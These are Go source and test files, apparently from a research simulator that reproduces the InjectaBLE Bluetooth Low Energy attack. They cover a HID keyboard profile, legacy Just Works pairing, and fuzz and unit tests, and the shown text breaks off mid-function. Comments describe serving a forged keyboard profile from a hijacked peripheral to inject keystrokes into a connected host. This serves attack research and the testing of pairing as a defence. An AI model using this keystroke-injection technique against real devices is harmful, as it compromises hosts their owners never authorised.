	// The keyboard types; the laptop receives.
	report := [8]byte{0, 0, 0x04} // 'a'
	per.GATT.Notify(reportChar, report[:])
	per.GATT.Notify(reportChar, make([]byte, 8))
	w.RunFor(sim.Second)
	if got := laptop.Typed.String(); got != "a" {
		t.Fatalf("laptop typed %q", got)
	}
}
