package devices

import (
	"strings"
	"testing"

	"injectable/internal/att"
	"injectable/internal/gatt"
)

func TestKeyboardProfileStructure(t *testing.T) {
	k := NewKeyboardProfile("TestKbd")
	if k.GATT.FindCharacteristic(UUIDHIDReport) == nil {
		t.Fatal("no report characteristic")
	}
	if k.GATT.FindCharacteristic(UUIDServiceChanged) == nil {
		t.Fatal("no service changed characteristic")
	}
	rm := k.GATT.FindCharacteristic(UUIDHIDReportMap)
	if rm == nil || len(rm.Value) == 0 {
		t.Fatal("no report map")
	}
	if k.ReportHandle() == 0 {
		t.Fatal("report handle unassigned")
	}
	if k.Subscribed() {
		t.Fatal("subscribed before any host attached")
	}
}

func TestKeyboardTypeRoundTrip(t *testing.T) {
	// Wire the profile to a local ATT client and decode what it types.
	k := NewKeyboardProfile("kbd")
	var cli *att.Client
	k.GATT.ATT().SetSend(func(b []byte) { cli.HandlePDU(b) })
	srv := k.GATT
	cli = att.NewClient(func(b []byte) { srv.HandlePDU(b) })

	var typed strings.Builder
	cli.OnNotification = func(handle uint16, v []byte) {
		if r := DecodeBootReport(v); r != 0 {
			typed.WriteRune(r)
		}
	}
	// Subscribe to the report characteristic.
	rc := &gatt.RemoteCharacteristic{
		ValueHandle: k.ReportHandle(),
		CCCDHandle:  k.GATT.FindCharacteristic(UUIDHIDReport).CCCDHandle,
	}
	gcli := gatt.NewClient(cli)
	gcli.OnNotification = func(h uint16, v []byte) {
		if r := DecodeBootReport(v); r != 0 {
			typed.WriteRune(r)
		}
	}
	gcli.Subscribe(rc, func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	})
	if !k.Subscribed() {
		t.Fatal("CCCD write did not register")
	}

	const msg = "Hello World 123.\n"
	k.Type(msg)
	if got := typed.String(); got != msg {
		t.Fatalf("typed %q, want %q", got, msg)
	}
}

func TestUsageMapRoundTrip(t *testing.T) {
	for _, r := range "abcxyz ABCXYZ 0123456789 .-/:\n" {
		usage, shift, ok := usageFor(r)
		if !ok {
			t.Errorf("no usage for %q", r)
			continue
		}
		report := []byte{0, 0, usage, 0, 0, 0, 0, 0}
		if shift {
			report[0] = 0x02
		}
		if got := DecodeBootReport(report); got != r {
			t.Errorf("round trip %q -> %q", r, got)
		}
	}
}

func TestUsageForUnsupported(t *testing.T) {
	if _, _, ok := usageFor('€'); ok {
		t.Fatal("euro sign mapped")
	}
}

func TestDecodeBootReportEdges(t *testing.T) {
	if DecodeBootReport(nil) != 0 {
		t.Fatal("nil report decoded")
	}
	if DecodeBootReport([]byte{0, 0, 0, 0, 0, 0, 0, 0}) != 0 {
		t.Fatal("empty report decoded")
	}
	if DecodeBootReport([]byte{0, 0, 0xFF, 0, 0, 0, 0, 0}) != 0 {
		t.Fatal("unknown usage decoded")
	}
}

func TestServiceChangedIndication(t *testing.T) {
	k := NewKeyboardProfile("kbd")
	var got []byte
	var cli *att.Client
	k.GATT.ATT().SetSend(func(b []byte) { cli.HandlePDU(b) })
	cli = att.NewClient(func(b []byte) { k.GATT.HandlePDU(b) })
	cli.OnIndication = func(handle uint16, v []byte) { got = v }
	k.IndicateServiceChanged()
	if len(got) != 4 {
		t.Fatalf("indication payload % x", got)
	}
}
