package devices

import (
	"injectable/internal/att"
	"injectable/internal/gatt"
)

// HID-over-GATT UUIDs (the paper's §IX future-work attack exposes this
// profile from a hijacked slave to inject keystrokes into the master).
var (
	// UUIDHIDService is the Human Interface Device service.
	UUIDHIDService = att.UUID16(0x1812)
	// UUIDHIDReport is the input Report characteristic.
	UUIDHIDReport = att.UUID16(0x2A4D)
	// UUIDHIDReportMap is the Report Map (descriptor blob).
	UUIDHIDReportMap = att.UUID16(0x2A4B)
	// UUIDHIDInformation is the HID Information characteristic.
	UUIDHIDInformation = att.UUID16(0x2A4A)
	// UUIDHIDProtocolMode is the Protocol Mode characteristic.
	UUIDHIDProtocolMode = att.UUID16(0x2A4E)
	// UUIDGATTService is the Generic Attribute service (0x1801).
	UUIDGATTService = att.UUID16(0x1801)
	// UUIDServiceChanged is the Service Changed characteristic, whose
	// indication tells a host to drop its GATT cache and rediscover.
	UUIDServiceChanged = att.UUID16(0x2A05)
)

// bootKeyboardReportMap is a minimal USB HID boot-keyboard report map:
// 8-byte reports of [modifiers, reserved, key1..key6].
var bootKeyboardReportMap = []byte{
	0x05, 0x01, 0x09, 0x06, 0xA1, 0x01, // Usage Page (Generic Desktop), Usage (Keyboard), Collection
	0x05, 0x07, 0x19, 0xE0, 0x29, 0xE7, // Usage Page (Key Codes), Usage Min/Max (modifiers)
	0x15, 0x00, 0x25, 0x01, 0x75, 0x01, 0x95, 0x08, 0x81, 0x02, // modifiers bitmap
	0x95, 0x01, 0x75, 0x08, 0x81, 0x01, // reserved byte
	0x95, 0x06, 0x75, 0x08, 0x15, 0x00, 0x25, 0x65, // 6 keys
	0x05, 0x07, 0x19, 0x00, 0x29, 0x65, 0x81, 0x00,
	0xC0, // End Collection
}

// Keyboard is a HID-over-GATT keyboard profile: either a legitimate
// wireless keyboard, or — the paper's §IX scenario — the forged profile an
// attacker serves from a hijacked slave.
type Keyboard struct {
	// GATT is the server exposing the profile.
	GATT *gatt.Server

	serviceChanged *gatt.Characteristic
	report         *gatt.Characteristic
}

// NewKeyboardProfile builds the profile on a fresh GATT server (no
// transport yet — wired when attached to a connection).
func NewKeyboardProfile(name string) *Keyboard {
	k := &Keyboard{}
	k.GATT = gatt.NewServer(func([]byte) {})

	// GAP service with the device name.
	k.GATT.AddService(&gatt.Service{
		UUID: att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{{
			UUID: att.UUID16(0x2A00), Properties: gatt.PropRead, Value: []byte(name),
		}},
	})
	// Generic Attribute service with Service Changed: the lever that makes
	// an already-connected host rediscover and find the keyboard.
	k.serviceChanged = &gatt.Characteristic{
		UUID:       UUIDServiceChanged,
		Properties: gatt.PropIndicate,
		Value:      []byte{0x01, 0x00, 0xFF, 0xFF},
	}
	k.GATT.AddService(&gatt.Service{
		UUID:            UUIDGATTService,
		Characteristics: []*gatt.Characteristic{k.serviceChanged},
	})
	// The HID service itself.
	k.report = &gatt.Characteristic{
		UUID:       UUIDHIDReport,
		Properties: gatt.PropRead | gatt.PropNotify,
		Value:      make([]byte, 8),
	}
	k.GATT.AddService(&gatt.Service{
		UUID: UUIDHIDService,
		Characteristics: []*gatt.Characteristic{
			{UUID: UUIDHIDProtocolMode, Properties: gatt.PropRead | gatt.PropWriteNoResponse, Value: []byte{0x01}},
			k.report,
			{UUID: UUIDHIDReportMap, Properties: gatt.PropRead, Value: bootKeyboardReportMap},
			{UUID: UUIDHIDInformation, Properties: gatt.PropRead, Value: []byte{0x11, 0x01, 0x00, 0x02}},
		},
	})
	return k
}

// IndicateServiceChanged tells the connected host to rediscover the whole
// handle range.
func (k *Keyboard) IndicateServiceChanged() {
	k.GATT.ATT().Indicate(k.serviceChanged.ValueHandle, []byte{0x01, 0x00, 0xFF, 0xFF})
}

// SendReport pushes one 8-byte boot keyboard input report.
func (k *Keyboard) SendReport(report [8]byte) {
	k.GATT.Notify(k.report, report[:])
}

// ReportHandle returns the input report's value handle.
func (k *Keyboard) ReportHandle() uint16 { return k.report.ValueHandle }

// Subscribed reports whether the host enabled report notifications.
func (k *Keyboard) Subscribed() bool { return k.report.Notifying() }

// Type sends the key-down/key-up report pairs for a string.
func (k *Keyboard) Type(text string) {
	for _, r := range text {
		usage, shift, ok := usageFor(r)
		if !ok {
			continue
		}
		var report [8]byte
		if shift {
			report[0] = 0x02 // left shift
		}
		report[2] = usage
		k.SendReport(report)
		k.SendReport([8]byte{}) // key release
	}
}

// usageFor maps a rune to a boot-keyboard usage code.
func usageFor(r rune) (usage byte, shift, ok bool) {
	switch {
	case r >= 'a' && r <= 'z':
		return byte(r-'a') + 0x04, false, true
	case r >= 'A' && r <= 'Z':
		return byte(r-'A') + 0x04, true, true
	case r == '1':
		return 0x1E, false, true
	case r >= '2' && r <= '9':
		return byte(r-'2') + 0x1F, false, true
	case r == '0':
		return 0x27, false, true
	case r == '\n':
		return 0x28, false, true
	case r == ' ':
		return 0x2C, false, true
	case r == '.':
		return 0x37, false, true
	case r == '/':
		return 0x38, false, true
	case r == '-':
		return 0x2D, false, true
	case r == ':':
		return 0x33, true, true // shift+';'
	default:
		return 0, false, false
	}
}

// DecodeBootReport converts an input report back to a rune (0 if none) —
// the host side of the mapping, for the Computer model and tests.
func DecodeBootReport(report []byte) rune {
	if len(report) < 3 || report[2] == 0 {
		return 0
	}
	shift := report[0]&0x22 != 0
	u := report[2]
	switch {
	case u >= 0x04 && u <= 0x1D:
		if shift {
			return rune('A' + u - 0x04)
		}
		return rune('a' + u - 0x04)
	case u == 0x1E:
		return '1'
	case u >= 0x1F && u <= 0x26:
		return rune('2' + u - 0x1F)
	case u == 0x27:
		return '0'
	case u == 0x28:
		return '\n'
	case u == 0x2C:
		return ' '
	case u == 0x37:
		return '.'
	case u == 0x38:
		return '/'
	case u == 0x2D:
		return '-'
	case u == 0x33:
		if shift {
			return ':'
		}
		return ';'
	default:
		return 0
	}
}
