// Package smp implements the BLE Security Manager Protocol's legacy
// "Just Works" pairing: the pairing feature exchange, the c1 confirm-value
// exchange, STK derivation with s1, and LTK distribution once the link is
// encrypted.
//
// Pairing is the countermeasure the paper ultimately recommends (§VIII):
// once a connection is encrypted with a negotiated LTK, InjectaBLE's
// injected plaintext frames fail their MIC and the attack degrades to
// denial of service. The experiment harness uses this package to reproduce
// that boundary.
package smp

import (
	"errors"
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/llcrypt"
	"injectable/internal/sim"
)

// Code is an SMP command code.
type Code uint8

// SMP command codes (Core Spec Vol 3 Part H §3.3).
const (
	CodePairingRequest  Code = 0x01
	CodePairingResponse Code = 0x02
	CodePairingConfirm  Code = 0x03
	CodePairingRandom   Code = 0x04
	CodePairingFailed   Code = 0x05
	CodeEncryptionInfo  Code = 0x06
	CodeMasterIdent     Code = 0x07
)

// FailureReason is the reason byte of Pairing Failed.
type FailureReason uint8

// Failure reasons.
const (
	FailConfirmValue FailureReason = 0x04
	FailUnspecified  FailureReason = 0x08
)

// ErrPairingFailed reports a failed pairing.
var ErrPairingFailed = errors.New("smp: pairing failed")

// Bond is the key material produced by pairing.
type Bond struct {
	LTK  [16]byte
	EDIV uint16
	Rand [8]byte
}

// Config wires a Pairing into its environment.
type Config struct {
	// Send transmits an SMP PDU on L2CAP CID 6.
	Send func([]byte)
	// RNG supplies nonces and keys.
	RNG *sim.RNG
	// LocalAddr / RemoteAddr are the connection's device addresses.
	LocalAddr, RemoteAddr ble.Address
	// LocalRandom / RemoteRandom flag random (vs public) address types.
	LocalRandom, RemoteRandom bool
	// StartEncryption asks the Link Layer to begin encryption with the
	// given key (initiator only; key is the STK during pairing).
	StartEncryption func(key [16]byte, rand [8]byte, ediv uint16) error
	// OnComplete reports the distributed bond or an error, once.
	OnComplete func(bond Bond, err error)
}

// role distinguishes initiator (master) from responder (slave).
type role int

const (
	roleInitiator role = iota + 1
	roleResponder
)

// phase tracks pairing progress.
type phase int

const (
	phaseIdle phase = iota
	phaseFeatures
	phaseConfirm
	phaseRandom
	phaseEncrypting
	phaseKeyDist
	phaseDone
	phaseFailed
)

// Pairing is one legacy Just Works pairing in progress.
type Pairing struct {
	cfg  Config
	role role
	ph   phase

	preq, pres [7]byte // pairing request/response PDUs, MSB-first for c1

	tk             [16]byte // Just Works: zero
	localRand      [16]byte
	remoteConfirm  [16]byte
	haveRemoteConf bool
	stk            [16]byte

	bond     Bond
	haveLTK  bool
	haveEDIV bool
}

// featurePDU is the 7-byte pairing request/response: code, IOCap(3=NoIO),
// OOB(0), AuthReq(1=bonding), MaxKeySize(16), InitKeyDist, RespKeyDist.
func featurePDU(code Code) []byte {
	return []byte{byte(code), 0x03, 0x00, 0x01, 0x10, 0x00, 0x01} // resp distributes LTK
}

// msbFirst7 converts an on-air 7-byte PDU to the spec's MSB-first value.
func msbFirst7(onAir []byte) [7]byte {
	var out [7]byte
	for i := 0; i < 7; i++ {
		out[i] = onAir[6-i]
	}
	return out
}

// reverse16 flips byte order between on-air (LSB-first) and MSB-first.
func reverse16(b []byte) [16]byte {
	var out [16]byte
	for i := 0; i < 16 && i < len(b); i++ {
		out[i] = b[len(b)-1-i]
	}
	return out
}

// NewInitiator prepares the master side; call Start to begin.
func NewInitiator(cfg Config) *Pairing {
	return &Pairing{cfg: cfg, role: roleInitiator}
}

// NewResponder prepares the slave side; it reacts to the Pairing Request.
func NewResponder(cfg Config) *Pairing {
	return &Pairing{cfg: cfg, role: roleResponder}
}

// Start sends the Pairing Request (initiator only).
func (p *Pairing) Start() error {
	if p.role != roleInitiator {
		return fmt.Errorf("smp: only the initiator starts pairing")
	}
	if p.ph != phaseIdle {
		return fmt.Errorf("smp: pairing already started")
	}
	req := featurePDU(CodePairingRequest)
	p.preq = msbFirst7(req)
	p.ph = phaseFeatures
	p.cfg.Send(req)
	return nil
}

// STK returns the short-term key (valid once derived). The responder's
// Link Layer answers the LL_ENC_REQ with EDIV=0/Rand=0 using this key.
func (p *Pairing) STK() ([16]byte, bool) {
	if p.ph >= phaseEncrypting && p.ph != phaseFailed {
		return p.stk, true
	}
	return [16]byte{}, false
}

// Done reports whether pairing completed successfully.
func (p *Pairing) Done() bool { return p.ph == phaseDone }

// fail aborts, notifying the peer and the owner.
func (p *Pairing) fail(reason FailureReason) {
	if p.ph == phaseFailed {
		return
	}
	p.ph = phaseFailed
	p.cfg.Send([]byte{byte(CodePairingFailed), byte(reason)})
	if p.cfg.OnComplete != nil {
		p.cfg.OnComplete(Bond{}, fmt.Errorf("%w: reason %#02x", ErrPairingFailed, uint8(reason)))
	}
}

// confirm computes c1 over the exchanged material.
func (p *Pairing) confirm(rand [16]byte) [16]byte {
	ia, ra := p.cfg.LocalAddr, p.cfg.RemoteAddr
	iat, rat := addrType(p.cfg.LocalRandom), addrType(p.cfg.RemoteRandom)
	if p.role == roleResponder {
		ia, ra = p.cfg.RemoteAddr, p.cfg.LocalAddr
		iat, rat = addrType(p.cfg.RemoteRandom), addrType(p.cfg.LocalRandom)
	}
	return llcrypt.C1(p.tk, rand, p.preq, p.pres, iat, rat, ia, ra)
}

func addrType(random bool) byte {
	if random {
		return 1
	}
	return 0
}

// sendConfirm draws the local random and transmits the confirm value.
func (p *Pairing) sendConfirm() {
	p.cfg.RNG.Bytes(p.localRand[:])
	conf := p.confirm(p.localRand)
	onAir := reverse16(conf[:])
	p.cfg.Send(append([]byte{byte(CodePairingConfirm)}, onAir[:]...))
}

// HandlePDU processes one SMP PDU from L2CAP CID 6.
func (p *Pairing) HandlePDU(b []byte) {
	if len(b) == 0 || p.ph == phaseFailed || p.ph == phaseDone {
		return
	}
	switch Code(b[0]) {
	case CodePairingRequest:
		p.handleRequest(b)
	case CodePairingResponse:
		p.handleResponse(b)
	case CodePairingConfirm:
		p.handleConfirm(b)
	case CodePairingRandom:
		p.handleRandom(b)
	case CodePairingFailed:
		p.ph = phaseFailed
		if p.cfg.OnComplete != nil {
			reason := FailureReason(0)
			if len(b) > 1 {
				reason = FailureReason(b[1])
			}
			p.cfg.OnComplete(Bond{}, fmt.Errorf("%w: peer reason %#02x", ErrPairingFailed, uint8(reason)))
		}
	case CodeEncryptionInfo:
		p.handleEncryptionInfo(b)
	case CodeMasterIdent:
		p.handleMasterIdent(b)
	}
}

func (p *Pairing) handleRequest(b []byte) {
	if p.role != roleResponder || p.ph != phaseIdle || len(b) != 7 {
		p.fail(FailUnspecified)
		return
	}
	p.preq = msbFirst7(b)
	rsp := featurePDU(CodePairingResponse)
	p.pres = msbFirst7(rsp)
	p.ph = phaseConfirm
	p.cfg.Send(rsp)
}

func (p *Pairing) handleResponse(b []byte) {
	if p.role != roleInitiator || p.ph != phaseFeatures || len(b) != 7 {
		p.fail(FailUnspecified)
		return
	}
	p.pres = msbFirst7(b)
	p.ph = phaseConfirm
	p.sendConfirm() // initiator sends Mconfirm first
}

func (p *Pairing) handleConfirm(b []byte) {
	if p.ph != phaseConfirm || len(b) != 17 {
		p.fail(FailUnspecified)
		return
	}
	p.remoteConfirm = reverse16(b[1:])
	p.haveRemoteConf = true
	switch p.role {
	case roleResponder:
		// Mconfirm received: answer with Sconfirm.
		p.sendConfirm()
		p.ph = phaseRandom
	case roleInitiator:
		// Sconfirm received: reveal Mrand.
		onAir := reverse16(p.localRand[:])
		p.cfg.Send(append([]byte{byte(CodePairingRandom)}, onAir[:]...))
		p.ph = phaseRandom
	}
}

func (p *Pairing) handleRandom(b []byte) {
	if p.ph != phaseRandom || len(b) != 17 {
		p.fail(FailUnspecified)
		return
	}
	remoteRand := reverse16(b[1:])
	if p.confirm(remoteRand) != p.remoteConfirm {
		p.fail(FailConfirmValue)
		return
	}
	switch p.role {
	case roleResponder:
		// Mrand verified: reveal Srand, derive STK, await encryption.
		onAir := reverse16(p.localRand[:])
		p.stk = llcrypt.S1(p.tk, p.localRand, remoteRand) // s1(TK, Srand, Mrand)
		p.ph = phaseEncrypting
		p.cfg.Send(append([]byte{byte(CodePairingRandom)}, onAir[:]...))
	case roleInitiator:
		// Srand verified: derive STK and start LL encryption with it.
		p.stk = llcrypt.S1(p.tk, remoteRand, p.localRand) // s1(TK, Srand, Mrand)
		p.ph = phaseEncrypting
		if p.cfg.StartEncryption != nil {
			if err := p.cfg.StartEncryption(p.stk, [8]byte{}, 0); err != nil {
				p.fail(FailUnspecified)
			}
		}
	}
}

// OnEncrypted must be called when the Link Layer reports encryption
// established: the responder then distributes its LTK.
func (p *Pairing) OnEncrypted() {
	if p.ph != phaseEncrypting {
		return
	}
	p.ph = phaseKeyDist
	if p.role != roleResponder {
		return
	}
	// Generate and distribute LTK + EDIV/Rand (the paper's "bonding").
	p.cfg.RNG.Bytes(p.bond.LTK[:])
	var ediv [2]byte
	p.cfg.RNG.Bytes(ediv[:])
	p.bond.EDIV = uint16(ediv[0]) | uint16(ediv[1])<<8
	p.cfg.RNG.Bytes(p.bond.Rand[:])

	ltkOnAir := reverse16(p.bond.LTK[:])
	p.cfg.Send(append([]byte{byte(CodeEncryptionInfo)}, ltkOnAir[:]...))
	ident := []byte{byte(CodeMasterIdent), byte(p.bond.EDIV), byte(p.bond.EDIV >> 8)}
	ident = append(ident, p.bond.Rand[:]...)
	p.cfg.Send(ident)
	p.haveLTK, p.haveEDIV = true, true
	p.finishKeyDist()
}

func (p *Pairing) handleEncryptionInfo(b []byte) {
	if p.role != roleInitiator || p.ph != phaseKeyDist || len(b) != 17 {
		return
	}
	p.bond.LTK = reverse16(b[1:])
	p.haveLTK = true
	p.finishKeyDist()
}

func (p *Pairing) handleMasterIdent(b []byte) {
	if p.role != roleInitiator || p.ph != phaseKeyDist || len(b) != 11 {
		return
	}
	p.bond.EDIV = uint16(b[1]) | uint16(b[2])<<8
	copy(p.bond.Rand[:], b[3:11])
	p.haveEDIV = true
	p.finishKeyDist()
}

func (p *Pairing) finishKeyDist() {
	if !p.haveLTK || !p.haveEDIV {
		return
	}
	p.ph = phaseDone
	if p.cfg.OnComplete != nil {
		p.cfg.OnComplete(p.bond, nil)
	}
}
