package smp

import (
	"testing"

	"injectable/internal/ble"
	"injectable/internal/sim"
)

// An SMP responder processes pairing PDUs straight off the link from an
// unauthenticated peer (this repo's attacker forges them): no byte stream
// may panic, and a completed pairing must have produced an STK.

// smpChunks splits the fuzz input into length-prefixed PDUs (SMP's longest
// legacy PDU is 17 bytes).
func smpChunks(b []byte) [][]byte {
	var out [][]byte
	for len(b) > 0 && len(out) < 12 {
		n := int(b[0] & 0x1F)
		b = b[1:]
		if n > len(b) {
			n = len(b)
		}
		out = append(out, b[:n])
		b = b[n:]
	}
	return out
}

func fuzzPairing(t *testing.T, initiator bool, seed uint64) *Pairing {
	t.Helper()
	cfg := Config{
		Send:            func([]byte) {},
		RNG:             sim.NewRNG(seed),
		LocalAddr:       ble.MustParseAddress("11:22:33:44:55:66"),
		RemoteAddr:      ble.MustParseAddress("AA:BB:CC:DD:EE:FF"),
		StartEncryption: func([16]byte, [8]byte, uint16) error { return nil },
		OnComplete:      func(Bond, error) {},
	}
	if initiator {
		return NewInitiator(cfg)
	}
	return NewResponder(cfg)
}

func FuzzPairingHandlePDU(f *testing.F) {
	f.Add([]byte{}, false)
	// A well-formed Pairing Request reaching a responder.
	f.Add(append([]byte{7}, featurePDU(CodePairingRequest)...), false)
	// Pairing Response + garbage confirm reaching an initiator.
	f.Add(append(append([]byte{7}, featurePDU(CodePairingResponse)...),
		17, byte(CodePairingConfirm), 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16), true)
	// Unknown opcode, then a truncated confirm.
	f.Add([]byte{2, 0xEE, 0xFF, 3, byte(CodePairingConfirm), 1, 2}, false)
	f.Fuzz(func(t *testing.T, b []byte, initiator bool) {
		p := fuzzPairing(t, initiator, 0xF0CC)
		if initiator {
			if err := p.Start(); err != nil {
				t.Fatal(err)
			}
		}
		for i, pdu := range smpChunks(b) {
			p.HandlePDU(pdu)
			// Interleave the link-layer encryption callback occasionally so
			// the key-distribution phase is reachable.
			if i == 2 {
				p.OnEncrypted()
			}
		}
		if p.Done() {
			if _, ok := p.STK(); !ok {
				t.Fatal("pairing completed without an STK")
			}
		}
	})
}
