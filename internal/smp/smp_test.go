package smp

import (
	"errors"
	"testing"

	"injectable/internal/ble"
	"injectable/internal/sim"
)

// harness wires an initiator and responder back-to-back with an explicit
// message queue (so tests can tamper with traffic) and a fake LL
// encryption hookup.
type harness struct {
	init, resp         *Pairing
	toResp, toInit     [][]byte
	encStarted         bool
	encKey             [16]byte
	initBond, respBond *Bond
	initErr, respErr   error
}

func newHarness(t *testing.T) *h2 {
	t.Helper()
	return buildHarness(t, nil)
}

// h2 is the harness plus its pump.
type h2 struct{ *harness }

// tamper lets tests mutate messages in flight: dir is "toResp"/"toInit".
type tamper func(dir string, msg []byte) []byte

func buildHarness(t *testing.T, tmp tamper) *h2 {
	t.Helper()
	h := &harness{}
	rng := sim.NewRNG(99)
	ia := ble.MustParseAddress("C0:00:00:00:00:01")
	ra := ble.MustParseAddress("C0:00:00:00:00:02")

	h.init = NewInitiator(Config{
		Send: func(b []byte) {
			msg := append([]byte(nil), b...)
			if tmp != nil {
				msg = tmp("toResp", msg)
			}
			h.toResp = append(h.toResp, msg)
		},
		RNG:       rng.Child("init"),
		LocalAddr: ia, RemoteAddr: ra,
		LocalRandom: true, RemoteRandom: true,
		StartEncryption: func(key [16]byte, rand [8]byte, ediv uint16) error {
			h.encStarted = true
			h.encKey = key
			return nil
		},
		OnComplete: func(b Bond, err error) { h.initBond, h.initErr = &b, err },
	})
	h.resp = NewResponder(Config{
		Send: func(b []byte) {
			msg := append([]byte(nil), b...)
			if tmp != nil {
				msg = tmp("toInit", msg)
			}
			h.toInit = append(h.toInit, msg)
		},
		RNG:       rng.Child("resp"),
		LocalAddr: ra, RemoteAddr: ia,
		LocalRandom: true, RemoteRandom: true,
		OnComplete: func(b Bond, err error) { h.respBond, h.respErr = &b, err },
	})
	return &h2{h}
}

// pump delivers queued messages until quiescent.
func (h *h2) pump() {
	for len(h.toResp) > 0 || len(h.toInit) > 0 {
		if len(h.toResp) > 0 {
			m := h.toResp[0]
			h.toResp = h.toResp[1:]
			h.resp.HandlePDU(m)
		}
		if len(h.toInit) > 0 {
			m := h.toInit[0]
			h.toInit = h.toInit[1:]
			h.init.HandlePDU(m)
		}
	}
}

// completeEncryption simulates the LL encryption start succeeding.
func (h *h2) completeEncryption() {
	h.init.OnEncrypted()
	h.resp.OnEncrypted()
	h.pump()
}

func TestJustWorksPairingEndToEnd(t *testing.T) {
	h := newHarness(t)
	if err := h.init.Start(); err != nil {
		t.Fatal(err)
	}
	h.pump()
	if !h.encStarted {
		t.Fatal("initiator never started LL encryption")
	}
	// Both sides derived the same STK.
	si, ok1 := h.init.STK()
	sr, ok2 := h.resp.STK()
	if !ok1 || !ok2 || si != sr {
		t.Fatalf("STK mismatch: %x vs %x", si, sr)
	}
	if h.encKey != si {
		t.Fatal("LL encryption used a different key than the STK")
	}

	h.completeEncryption()
	if h.initErr != nil || h.respErr != nil {
		t.Fatalf("errors: %v %v", h.initErr, h.respErr)
	}
	if h.initBond == nil || h.respBond == nil {
		t.Fatal("bond not produced")
	}
	if h.initBond.LTK != h.respBond.LTK || h.initBond.EDIV != h.respBond.EDIV ||
		h.initBond.Rand != h.respBond.Rand {
		t.Fatal("distributed keys disagree")
	}
	if h.initBond.LTK == ([16]byte{}) {
		t.Fatal("zero LTK distributed")
	}
	if !h.init.Done() || !h.resp.Done() {
		t.Fatal("Done() false after completion")
	}
}

func TestConfirmValueMismatchFails(t *testing.T) {
	// Tamper with the initiator's Pairing Random: the responder must
	// detect the confirm mismatch and abort with reason 0x04.
	h := buildHarness(t, func(dir string, msg []byte) []byte {
		if dir == "toResp" && Code(msg[0]) == CodePairingRandom {
			msg[5] ^= 0xFF
		}
		return msg
	})
	if err := h.init.Start(); err != nil {
		t.Fatal(err)
	}
	h.pump()
	if h.respErr == nil || !errors.Is(h.respErr, ErrPairingFailed) {
		t.Fatalf("responder error = %v", h.respErr)
	}
	if h.initErr == nil {
		t.Fatal("initiator not notified of failure")
	}
	if h.encStarted {
		t.Fatal("encryption started despite failed pairing")
	}
}

func TestMITMCannotForgeConfirmWithoutTK(t *testing.T) {
	// An attacker replacing the responder's confirm with garbage is caught.
	h := buildHarness(t, func(dir string, msg []byte) []byte {
		if dir == "toInit" && Code(msg[0]) == CodePairingConfirm {
			msg[8] ^= 0x01
		}
		return msg
	})
	if err := h.init.Start(); err != nil {
		t.Fatal(err)
	}
	h.pump()
	if h.initErr == nil {
		t.Fatal("initiator accepted forged confirm")
	}
}

func TestResponderRejectsUnexpectedSequence(t *testing.T) {
	h := newHarness(t)
	// Random before any request: protocol violation.
	h.resp.HandlePDU([]byte{byte(CodePairingRandom)})
	h.pump()
	if h.respErr == nil {
		t.Fatal("out-of-order PDU accepted")
	}
}

func TestStartOnlyInitiator(t *testing.T) {
	h := newHarness(t)
	if err := h.resp.Start(); err == nil {
		t.Fatal("responder Start accepted")
	}
	if err := h.init.Start(); err != nil {
		t.Fatal(err)
	}
	if err := h.init.Start(); err == nil {
		t.Fatal("double Start accepted")
	}
}

func TestSTKUnavailableBeforeDerivation(t *testing.T) {
	h := newHarness(t)
	if _, ok := h.init.STK(); ok {
		t.Fatal("STK available before pairing")
	}
}

func TestMalformedPDUsDoNotPanic(t *testing.T) {
	h := newHarness(t)
	if err := h.init.Start(); err != nil {
		t.Fatal(err)
	}
	h.resp.HandlePDU(nil)
	h.resp.HandlePDU([]byte{0x99})
	h.resp.HandlePDU([]byte{byte(CodePairingConfirm), 1, 2}) // short
	h.init.HandlePDU([]byte{byte(CodeEncryptionInfo)})       // short, wrong phase
}

func TestReverse16(t *testing.T) {
	in := []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}
	out := reverse16(in)
	if out[0] != 16 || out[15] != 1 {
		t.Fatalf("reverse16 = %v", out)
	}
}

func TestMsbFirst7(t *testing.T) {
	in := []byte{1, 2, 3, 4, 5, 6, 7}
	out := msbFirst7(in)
	if out[0] != 7 || out[6] != 1 {
		t.Fatalf("msbFirst7 = %v", out)
	}
}
