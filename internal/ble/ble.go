// Package ble holds the protocol constants and shared primitive types of
// Bluetooth Low Energy used across the Link Layer, host stack and attack
// tooling: device and access addresses, channel maps and core timing units.
package ble

import (
	"encoding/hex"
	"fmt"
	"strings"

	"injectable/internal/sim"
)

// Core Specification timing constants.
const (
	// TIFS is the inter-frame spacing: the gap between the end of one
	// frame and the start of the response within a connection event.
	TIFS = 150 * sim.Microsecond
	// ConnUnit is the unit of WinOffset/WinSize/Interval fields (1.25 ms).
	ConnUnit = 1250 * sim.Microsecond
	// TimeoutUnit is the unit of the supervision Timeout field (10 ms).
	TimeoutUnit = 10 * sim.Millisecond
	// WindowWideningFloor is the constant term of the window-widening
	// formula (spec Vol 6 Part B §4.2.4: instantaneous ±16 µs, the paper's
	// eq. 4 uses 32 µs total).
	WindowWideningFloor = 32 * sim.Microsecond
	// MaxDataPDULen is the largest data-PDU payload without the length
	// extension (we operate BLE 4.0-compatible 27-byte payloads).
	MaxDataPDULen = 27
)

// AdvertisingAccessAddress is the fixed access address of all advertising
// channel packets.
const AdvertisingAccessAddress AccessAddress = 0x8E89BED6

// AdvertisingCRCInit is the fixed CRC initialisation value on advertising
// channels.
const AdvertisingCRCInit uint32 = 0x555555

// AccessAddress identifies a connection (or the advertising channel) on air.
type AccessAddress uint32

// String implements fmt.Stringer.
func (a AccessAddress) String() string { return fmt.Sprintf("0x%08X", uint32(a)) }

// ValidForConnection applies the spec's access-address requirements
// (Vol 6 Part B §2.1.2): at most six consecutive equal bits, not the
// advertising AA or one bit away from it, all four bytes distinct, no more
// than 24 transitions, at least two transitions in the six most significant
// bits.
func (a AccessAddress) ValidForConnection() bool {
	v := uint32(a)
	if v == uint32(AdvertisingAccessAddress) {
		return false
	}
	// Differ in only one bit from the advertising AA?
	d := v ^ uint32(AdvertisingAccessAddress)
	if d != 0 && d&(d-1) == 0 {
		return false
	}
	// All four bytes equal is forbidden (we apply the stronger "no two
	// adjacent equal bytes" heuristic used by controllers).
	b := []byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)}
